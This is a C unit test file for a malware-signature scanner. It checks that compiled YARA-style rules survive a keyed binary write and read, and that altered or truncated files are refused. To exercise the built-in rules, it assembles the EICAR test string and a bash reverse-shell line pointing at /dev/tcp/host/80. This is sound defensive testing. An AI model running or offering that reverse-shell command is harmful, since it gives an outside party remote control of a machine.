/* Compiled rules there and back: what was read matches what was written. Whatever was changed on the
 * way is refused. */
#include "base/buffer.h"
#include "rules_of.h"
#include "signatures/matcher.h"
#include "signatures/rules_binary.h"

#include <errno.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

static const uint8_t key[RULES_BINARY_KEY] = {1, 2, 3, [31] = 99};

static int memory_file(void)
{
    int fd = memfd_create("rules", MFD_CLOEXEC);
    ck_assert_int_ge(fd, 0);
    return fd;
}

static int written(const struct assay_rules *rules)
{
    int fd = memory_file();
    ck_assert_int_eq(rules_write(rules, key, fd), ASSAY_OK);
    return fd;
}

static struct assay_rules *there_and_back(const struct assay_rules *rules)
{
    int fd = written(rules);
    struct assay_rules *read = NULL;
    ck_assert_int_eq(rules_read(fd, key, &read), ASSAY_OK);
    close(fd);
    ck_assert_uint_eq(rules_count(read), rules_count(rules));
    return read;
}

/* ---- everything that matches, as text -------------------------------------------------------- */

static int on_match(void *context, struct assay_match *match)
{
    struct buffer *out = context;
    ck_assert_int_eq(buffer_append_format(out, "%s %s %s %d", match->database,
                                          match->rule_namespace, match->rule, match->severity),
                     ASSAY_OK);
    for (size_t i = 0; i < match->tag_count; i++)
        ck_assert_int_eq(buffer_append_format(out, " :%s", match->tags[i]), ASSAY_OK);
    for (size_t i = 0; i < match->meta_count; i++)
        ck_assert_int_eq(buffer_append_format(out, " %s=%s%lld", match->metas[i].name,
                                              match->metas[i].string ? match->metas[i].string : "",
                                              (long long)match->metas[i].integer),
                         ASSAY_OK);
    for (size_t i = 0; i < match->string_count; i++)
        ck_assert_int_eq(buffer_append_format(out, " %s@%lu+%lu", match->strings[i].id,
                                              match->strings[i].offset, match->strings[i].length),
                         ASSAY_OK);
    ck_assert_int_eq(buffer_append_text(out, "\n"), ASSAY_OK);
    return 0;
}

static void on_incomplete(void *context, enum assay_reason reason, const char *detail)
{
    (void)context;
    ck_abort_msg("incomplete: %d %s", reason, detail);
}

static void match_into(struct buffer *out, struct matcher *matcher, const void *data, size_t size)
{
    const struct matcher_variables variables = {"a.exe", "/tmp/a.exe", ".exe", "EXE", "root"};
    const struct matcher_events events = {on_match, on_incomplete, out};
    const struct view view = {data, size};
    ck_assert_int_eq(matcher_scan(matcher, view, &variables, 0, &events, NULL), ASSAY_OK);
}

/* What built-in rules find is put together here, so that no file contains it. */
static void match_everything(struct buffer *out, const struct assay_rules *rules)
{
    cleanup(matcher_free_cleanup) struct matcher *matcher = NULL;
    ck_assert_int_eq(matcher_new(rules, &matcher), ASSAY_OK);
    char text[96];
    int size = snprintf(text, sizeof(text), "X5O!P%%@AP[4\\PZX54(P^)7CC)7}$%s%s!$H+H*",
                        "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE");
    match_into(out, matcher, text, (size_t)size);
    size = snprintf(text, sizeof(text), "%s -i >& %s/host/80 0>&1\n", "bash", "/dev/tcp");
    match_into(out, matcher, text, (size_t)size);
    match_into(out, matcher, "MZ-abc-needle", 13);
    match_into(out, matcher, "abc", 3);
    match_into(out, matcher, NULL, 0);
    ck_assert_int_eq(buffer_terminate(out), ASSAY_OK);
}

/* Returns how many lines both said. */
static size_t check_same(const struct assay_rules *one, const struct assay_rules *other)
{
    cleanup(buffer_release) struct buffer before = {NULL, 0, 0};
    cleanup(buffer_release) struct buffer after = {NULL, 0, 0};
    match_everything(&before, one);
    match_everything(&after, other);
    ck_assert_str_eq((const char *)before.data, (const char *)after.data);
    size_t lines = 0;
    for (size_t i = 0; i < before.size; i++)
        lines += before.data[i] == '\n';
    return lines;
}

static struct assay_rules *compiled(const struct assay_source *sources, size_t count)
{
    struct heard heard = {.count = 0};
    const struct rules_input input = {
        .sources = sources, .count = count, .on_diagnostic = hear, .diagnostic_context = &heard};
    struct assay_rules *rules = NULL;
    status result = rules_compile(&input, &rules);
    ck_assert_msg(result == ASSAY_OK, "%s: %s", heard.said[0].rule, heard.said[0].message);
    return rules;
}

static struct assay_rules *some_rules(void)
{
    static const struct assay_source sources[] = {
        {"one.yar", "first",
         "import \"hash\" import \"math\" import \"pe\" import \"elf\" import \"time\" "
         "rule digest : tag { meta: score = 75 text = \"t\" yes = true condition: "
         "hash.md5(0, filesize) == \"900150983cd24fb0d6963f7d28e17f72\" } "
         "rule mean { condition: math.mean(0, 3) > 90.0 and not pe.is_pe and time.now() > 1 } "
         "private rule silent { condition: true } rule loud { condition: silent } ",
         0},
        {"one.yar", "second",
         "rule name { condition: filename == \"a.exe\" and owner == \"root\" } "
         "rule path { condition: filepath matches /^\\/tmp/ and extension contains \"exe\" } "
         "rule type { condition: filetype == \"EXE\" and uint16(0) == 0x5a4d }",
         0},
        {"strings.yar", NULL,
         "rule texts { strings: $a = \"needle\" fullword $b = /a[a-c]{2}/ nocase $c = { 61 ?? 63 "
         "} "
         "$d = \"abc\" xor(0-3) private condition: any of them and #b >= 1 and @c[1] >= 0 }"
         "global rule everywhere { condition: filesize >= 0 }",
         0},
    };
    struct assay_source sized[3];
    for (size_t i = 0; i < 3; i++) {
        sized[i] = sources[i];
        sized[i].size = strlen(sources[i].text);
    }
    return compiled(sized, 3);
}

static struct assay_rules *builtin_rules(void)
{
    const struct assay_source *sources;
    size_t count;
    rules_builtin(&sources, &count);
    return compiled(sources, count);
}

START_TEST(builtin_rules_match_the_same)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = builtin_rules();
    cleanup(rules_free_cleanup) struct assay_rules *read = there_and_back(rules);
    ck_assert_uint_eq(check_same(rules, read), 2);
}
END_TEST

START_TEST(modules_variables_and_namespaces_survive)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = some_rules();
    cleanup(rules_free_cleanup) struct assay_rules *read = there_and_back(rules);
    ck_assert_uint_gt(check_same(rules, read), 10);

    cleanup(buffer_release) struct buffer said = {NULL, 0, 0};
    match_everything(&said, read);
    static const char *const lines[] = {
        "first one.yar digest 3 :tag score=75 text=t0 yes=1\n",
        "second one.yar#2 name 3\n",
        "second one.yar#2 path 3\n",
        "second one.yar#2 type 3\n",
        " strings.yar texts 3 $b@0+3 $c@0+3\n",
    };
    for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
        ck_assert_msg(strstr((const char *)said.data, lines[i]) != NULL, "no %s in\n%s", lines[i],
                      (const char *)said.data);
}
END_TEST

START_TEST(what_was_read_can_be_written_again)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = some_rules();
    cleanup(rules_free_cleanup) struct assay_rules *once = there_and_back(rules);
    cleanup(rules_free_cleanup) struct assay_rules *twice = there_and_back(once);
    rules_free(steal_pointer(once)); /* they share nothing */
    ck_assert_uint_gt(check_same(rules, twice), 10);
}
END_TEST

START_TEST(what_was_read_can_be_joined)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = rules_of("rule r { condition: true }");
    cleanup(rules_free_cleanup) struct assay_rules *some = some_rules();
    struct assay_rules *read = there_and_back(some);
    ck_assert_int_eq(rules_join(rules, read), ASSAY_OK);
    ck_assert_uint_eq(rules_count(rules), 1 + rules_count(some));
    /* Joined rules are several files' worth. */
    int fd = memory_file();
    ck_assert_int_eq(rules_write(rules, key, fd), ASSAY_ERR_ARGUMENT);
    cleanup(rules_free_cleanup) struct assay_rules *none = NULL;
    ck_assert_int_eq(rules_new(&none), ASSAY_OK);
    ck_assert_int_eq(rules_write(none, key, fd), ASSAY_ERR_ARGUMENT);
    ck_assert_int_eq((int)lseek(fd, 0, SEEK_END), 0);
    close(fd);
}
END_TEST

START_TEST(rules_outlive_a_disk_that_is_full)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = builtin_rules();
    cleanup(rules_free_cleanup) struct assay_rules *same = builtin_rules();
    int full = open("/dev/full", O_WRONLY | O_CLOEXEC);
    ck_assert_int_ge(full, 0);
    ck_assert_int_eq(rules_write(rules, key, full), ASSAY_ERR_IO);
    ck_assert_int_eq(errno, ENOSPC);
    close(full);
    ck_assert_uint_eq(check_same(rules, same), 2);
}
END_TEST

/* ---- what is refused ------------------------------------------------------------------------- */

static void check_refused(int fd, const uint8_t with[RULES_BINARY_KEY])
{
    struct assay_rules *read = NULL;
    ck_assert_int_eq(rules_read(fd, with, &read), ASSAY_ERR_CORRUPT);
    ck_assert_ptr_null(read);
}

START_TEST(another_key_is_refused)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = some_rules();
    int fd = written(rules);
    for (size_t i = 0; i < RULES_BINARY_KEY; i++) {
        uint8_t other[RULES_BINARY_KEY];
        memcpy(other, key, sizeof(other));
        other[i] ^= 1;
        check_refused(fd, other);
    }
    close(fd);
}
END_TEST

START_TEST(any_flipped_bit_is_refused)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = some_rules();
    int fd = written(rules);
    uint64_t size = (uint64_t)lseek(fd, 0, SEEK_END);
    uint64_t random = 88172645463325252;
    for (int i = 0; i < 2000; i++) {
        random ^= random << 13, random ^= random >> 7, random ^= random << 17;
        off_t at = (off_t)(i < 500 ? (uint64_t)i : random / 8 % size);
        uint8_t byte, changed;
        ck_assert_int_eq((int)pread(fd, &byte, 1, at), 1);
        changed = byte ^ (uint8_t)(1 << random % 8);
        ck_assert_int_eq((int)pwrite(fd, &changed, 1, at), 1);
        check_refused(fd, key);
        ck_assert_int_eq((int)pwrite(fd, &byte, 1, at), 1);
    }
    struct assay_rules *read = NULL;
    ck_assert_int_eq(rules_read(fd, key, &read), ASSAY_OK);
    rules_free(read);
    close(fd);
}
END_TEST

START_TEST(a_file_of_another_length_is_refused)
{
    cleanup(rules_free_cleanup) struct assay_rules *rules = some_rules();
    int fd = written(rules);
    off_t size = lseek(fd, 0, SEEK_END);
    ck_assert_int_eq(ftruncate(fd, size + 1), 0);
    check_refused(fd, key);
    for (off_t cut = 1; cut <= size; cut += cut < 200 || size - cut < 400 ? 1 : 997) {
        ck_assert_int_eq(ftruncate(fd, size - cut), 0);
        check_refused(fd, key);
    }
    ck_assert_int_eq(ftruncate(fd, 0), 0);
    check_refused(fd, key);
    close(fd);
}
END_TEST

START_TEST(what_is_no_file_is_an_error_of_reading)
{
    int ends[2];
    struct assay_rules *read = NULL;
    ck_assert_int_eq(pipe(ends), 0);
    ck_assert_int_eq(rules_read(ends[0], key, &read), ASSAY_ERR_IO);
    close(ends[0]);
    close(ends[1]);
    ck_assert_int_eq(rules_read(-1, key, &read), ASSAY_ERR_IO);
}
END_TEST

UNIT_MAIN("rules_binary", builtin_rules_match_the_same, modules_variables_and_namespaces_survive,
          what_was_read_can_be_written_again, what_was_read_can_be_joined,
          rules_outlive_a_disk_that_is_full, another_key_is_refused, any_flipped_bit_is_refused,
          a_file_of_another_length_is_refused, what_is_no_file_is_an_error_of_reading)
